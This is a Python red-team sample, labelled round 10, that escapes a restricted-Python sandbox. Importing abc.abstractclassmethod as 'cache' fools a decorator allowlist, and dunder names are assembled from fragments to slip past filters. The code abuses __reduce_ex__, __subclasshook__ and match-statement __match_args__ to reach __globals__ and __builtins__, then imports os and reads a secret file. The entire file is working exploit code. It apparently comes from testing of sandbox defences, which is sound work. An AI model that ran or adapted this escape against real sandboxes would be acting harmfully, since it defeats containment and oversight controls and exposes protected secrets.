# family: red team, round 10 (abstractclassmethod_imported_as_cache)
# Variant of the decorator-name trust with no function of the tool: abc.abstractclassmethod (a classmethod)
# imported under the name `cache` keeps type(self) "trusted"; self is the class, type(self) the metaclass
# (Base is not an ABC, so the abstract flag is ignored and Base() can be made).
import abc
import copy
from abc import abstractclassmethod as cache


class Base:
    @cache
    def kind(self):
        return type(self)


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def install(target, names):
    def reducer(self, protocol):
        return (lambda: target, (), (None, names))

    maker = Base().kind()("R", (), {_d("reduce_ex"): reducer})
    copy.copy(maker())


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): classmethod(lambda c, sub: True), _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r10/work/secret.txt").read().strip()


print(run())
